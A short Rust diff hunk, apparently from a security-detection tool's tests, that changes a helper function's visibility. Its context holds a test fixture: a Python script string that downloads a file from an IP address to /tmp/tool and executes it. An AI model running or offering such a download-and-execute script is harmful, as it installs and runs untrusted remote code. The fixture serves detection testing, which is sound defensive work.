@@ -13,7 +13,7 @@ const NOON: Timestamp = Timestamp(1_795_262_400_250_000_000);
 const PYTHON: &str = "import os\nimport urllib.request\n\n# A comment.\ndef main():\n\turl = 'http://203.0.113.7/tool'\n\
     \turllib.request.urlretrieve(url, '/tmp/tool')\n\tos.system('/tmp/tool --quiet')\n\n\nmain()\n";
 
-fn finding(content: Content) -> Finding {
+pub(crate) fn finding(content: Content) -> Finding {
     let process = Process {
         pid: 4242,
         pid_in_container: 17,
